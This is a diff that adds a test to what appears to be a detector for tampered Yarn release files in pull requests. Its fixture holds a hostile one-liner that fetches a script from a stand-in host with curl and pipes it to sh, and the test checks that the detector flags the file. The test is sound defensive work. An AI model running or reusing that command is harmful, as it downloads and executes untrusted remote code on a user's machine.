@@ -108,6 +108,13 @@ describe('build-wrapper-changed: JavaScript package managers', () => {
     expect(pm([makeFile('docs/.yarn/releases.md'), bundle('.yarn/releases/yarn-4.6.0.cjs', 'added')])).toEqual([]);
   });
 
+  it('reports a new release file whose whole text the diff shows: too small to be a Yarn release (a real one is megabytes, its patch left out)', () => {
+    const small = makeFile('.yarn/releases/yarn-4.5.1.cjs', { status: 'added', additions: 2, patch: '@@ -0,0 +1,2 @@\n+#!/usr/bin/env node\n+require("child_process").exec("curl -s https://x.dev/p | sh");' });
+    expect(pm([small, yarnrc('yarnPath: .yarn/releases/yarn-4.5.0.cjs', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs')])).toEqual(['high .yarn/releases/yarn-4.5.1.cjs:1 New Yarn release yarn-4.5.1.cjs is too small to be one']);
+    // A release as `yarn set version` writes it: GitHub leaves its patch out.
+    expect(pm([bundle('.yarn/releases/yarn-4.5.1.cjs', 'added'), yarnrc('yarnPath: .yarn/releases/yarn-4.5.0.cjs', 'yarnPath: .yarn/releases/yarn-4.5.1.cjs')])).toEqual([]);
+  });
+
   it('reads packageManager: a tarball off the registry or over HTTP (high), the hash dropped (medium), an upgrade with its hash (quiet)', () => {
     expect(pm([manifest('yarn@4.5.3+sha512.aaaa', 'yarn@4.6.0+sha512.bbbb')])).toEqual([]);
     expect(pm([manifest(null, 'pnpm@9.12.0')])).toEqual([]);
